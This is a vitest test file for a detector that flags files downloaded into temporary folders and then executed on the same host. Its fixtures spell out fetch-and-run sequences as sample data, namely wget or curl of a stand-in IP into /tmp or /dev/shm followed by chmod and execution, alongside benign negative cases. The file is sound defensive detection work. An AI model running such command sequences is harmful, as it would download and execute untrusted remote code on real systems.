import { expect, test } from 'vitest'
import { typed } from '../../../test/linux-process.ts'
import { foundBy, saidIn } from '../../../test/set-detector.ts'
import { fetchedThenRun } from './fetched-then-run.ts'

let record = 0
const ran = (line: string, minutes: number, host = 'gw01') => {
  record++
  return typed(line, {}, { record, host, time: 1_700_000_000_000_000 + minutes * 60_000_000 })
}

test.each([
  [
    'fetched, then started',
    () => [ran('wget http://203.0.113.9/k -O /tmp/kupd', 0), ran('chmod +x /tmp/kupd', 1), ran('/tmp/kupd --daemon', 2)],
    ['high: kupd was fetched into a temporary folder and started: wget http://203.0.113.9/k -o /tmp/kupd'],
  ],
  [
    'a script run by a shell',
    () => [ran('curl -o /dev/shm/a.sh http://203.0.113.9/a', 0), ran('bash /dev/shm/a.sh x', 1)],
    ['high: a.sh was fetched into a temporary folder and started: curl -o /dev/shm/a.sh http://203.0.113.9/a'],
  ],
  ['started before it was fetched', () => [ran('/tmp/kupd', 0), ran('wget http://203.0.113.9/k -O /tmp/kupd', 1)], []],
  ['on another machine', () => [ran('wget http://203.0.113.9/k -O /tmp/kupd', 0), ran('/tmp/kupd', 1, 'gw02')], []],
  ['an installer unpacks itself', () => [ran('/tmp/selfextract.x/setup', 0)], []],
  [
    'fetched and only looked at',
    () => [ran('curl -o /tmp/list.txt https://files.example/list.txt', 0), ran('less /tmp/list.txt', 1)],
    [],
  ],
])('%s', async (_name, events, said) => {
  expect(saidIn(await foundBy(fetchedThenRun, events()))).toEqual(said)
})
